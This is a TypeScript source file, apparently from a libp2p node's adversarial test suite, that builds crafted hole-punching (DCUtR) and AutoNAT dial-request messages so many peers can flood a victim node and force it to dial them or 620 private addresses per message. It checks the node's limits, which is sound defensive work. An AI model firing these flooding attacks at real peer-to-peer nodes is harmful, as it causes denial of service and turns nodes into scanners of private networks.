/** Attacks by what a node dials because others ask it to: hole punching, and AutoNAT. */
import type { Connection, Libp2p } from '@libp2p/interface'
import { multiaddr } from '@multiformats/multiaddr'
import {
  dialTarget,
  framed,
  onFrames,
  openStream,
  openWith,
  overAndOver,
  together,
  varint,
} from '../attackers.ts'
import type { Attack, Scenario } from '../scenario.ts'
import { pause } from '../until-true.ts'

const HOLE_PUNCH = '/libp2p/dcutr'
const DIAL_REQUEST = { mesh: '/libp2p/autonat/2/dial-request', legacy: '/libp2p/autonat/1.0.0' } as const
/** Types of hole punching's messages. */
const [CONNECT, SYNC] = [100, 300]

/** What a message of hole punching begins with, and no line of the negotiation. */
const TYPE_TAG = 8

const field = (number: number, bytes: Uint8Array) =>
  Buffer.concat([varint((number << 3) | 2), varint(bytes.length), bytes])
const typed = (type: number, ...addresses: readonly string[]) =>
  framed(
    Buffer.concat([
      Uint8Array.of(TYPE_TAG),
      varint(type),
      ...addresses.map((address) => field(2, multiaddr(address).bytes)),
    ]),
  )

/** Has the victim dial this peer, as if a relay joined the two; resolves when it did, or ended the stream. */
async function punch(attack: Attack, connection: Connection, address: string): Promise<void> {
  const { signal, tally } = attack
  const stream = await openWith(connection, HOLE_PUNCH, typed(CONNECT, address))
  onFrames(stream, (frame) => {
    if (frame[0] !== TYPE_TAG) return
    tally.count('answers')
    stream.send(typed(SYNC))
  })
  tally.count('dials asked for')
  for (let waited = 0; stream.status === 'open' && waited < 100 && !signal.aborted; waited++)
    await pause(50, signal)
}

/** Addresses that are private, as many as a message takes, each as a field with this number. */
const dialled = (number: number, at: number) =>
  Array.from({ length: 620 }, (_, n) =>
    field(number, multiaddr(`/ip4/10.${at % 256}.${n >> 8}.${n & 255}/tcp/4001`).bytes),
  )

/** The same to the first version of AutoNAT: a peer, and its addresses. */
function legacyDialRequest({ peerId }: Libp2p, at: number): Uint8Array {
  const peer = Buffer.concat([field(1, peerId.toMultihash().bytes), ...dialled(2, at)])
  return framed(Buffer.concat([Uint8Array.of(8, 0), field(2, field(1, peer))]))
}

function dialRequest(at: number): Uint8Array {
  const addresses = dialled(1, at)
  const request = Buffer.concat([...addresses, Uint8Array.of((2 << 3) | 1, 1, 2, 3, 4, 5, 6, 7, 8)])
  return framed(field(1, request))
}

export const NAT_ATTACKS: readonly Scenario[] = [
  {
    name: 'hole-punches',
    who: 'stranger',
    does: '40 strangers have a node with room for 12 dial them by hole punching, over and over; then a member comes',
    boundedBy: 'only who a relay joins is dialled, by no name, and as no other peer; HOLE_PUNCHES',
    legacy: { meaningless: 'punches holes only from an address of the internet' },
    aim: 'dials asked for',
    victimArgs: ['--max-connections=12'],
    honestComesLate: true,
    run: (attack) =>
      together(40, () =>
        overAndOver(attack, async () => {
          const { signal, target, tally } = attack
          const peer = await attack.peer({ listen: '/ip4/127.0.0.1/tcp/0' })
          peer.addEventListener('connection:open', ({ detail }) => {
            if (detail.direction === 'inbound') tally.count('dials of the victim')
          })
          const [port] = peer.getMultiaddrs().map((each) => /\/tcp\/(\d+)/.exec(String(each))?.[1])
          const connection = await dialTarget(peer, target, signal)
          await punch(attack, connection, `/dns4/localhost/tcp/${port}`)
        }),
      ),
  },
  {
    name: 'dial-requests',
    who: 'stranger',
    does: 'asks a node of a public network to dial 620 addresses in each message, on 8 connections',
    boundedBy: 'MAX_AUTONAT_FIELDS, DIAL_BACKS',
    legacy: { flags: ['--natservice'] },
    aim: 'addresses',
    victimArgs: ['--private=false', '--natmap=false'],
    // a network on one machine is private
    isApart: true,
    run: (attack) =>
      together(8, () =>
        overAndOver(attack, async () => {
          const { signal, target, tally } = attack
          const peer = await attack.peer()
          const connection = await dialTarget(peer, target, signal)
          for (let at = 0; !signal.aborted && connection.status === 'open'; at++) {
            const stream = await openStream(connection, DIAL_REQUEST[target.kind], signal)
            stream.send(target.kind === 'mesh' ? dialRequest(at) : legacyDialRequest(peer, at))
            tally.count('addresses', 620)
            for (let waited = 0; stream.status === 'open' && waited < 100 && !signal.aborted; waited++)
              await pause(10, signal)
          }
        }),
      ),
  },
]
